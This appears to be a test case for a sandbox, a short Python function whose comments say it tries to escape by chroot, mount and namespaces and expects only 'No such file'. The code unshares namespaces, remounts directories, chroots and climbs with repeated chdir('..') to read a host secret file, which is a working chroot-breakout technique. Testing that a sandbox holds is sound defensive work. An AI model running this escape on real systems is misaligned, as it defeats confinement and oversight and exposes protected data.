# tries: to leave by chroot, mount, pivot_root, and namespaces of its own
# reaches: No such file
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def double(x):
    libc.unshare(0x10000000 | 0x20000)
    libc.mount(b"none", b"/tmp", b"proc", 0, None)
    libc.umount2(b"/tmp", 2)
    libc.mount(b"/", b"/home/student", None, 4096, None)
    libc.chroot(b"/tmp")
    for _ in range(20):
        libc.chdir(b"..")
    try:
        print(open("@HOST@/secret.txt".lstrip("/")).read(), os.listdir("."))
    except OSError as error:
        print(error)
    return x
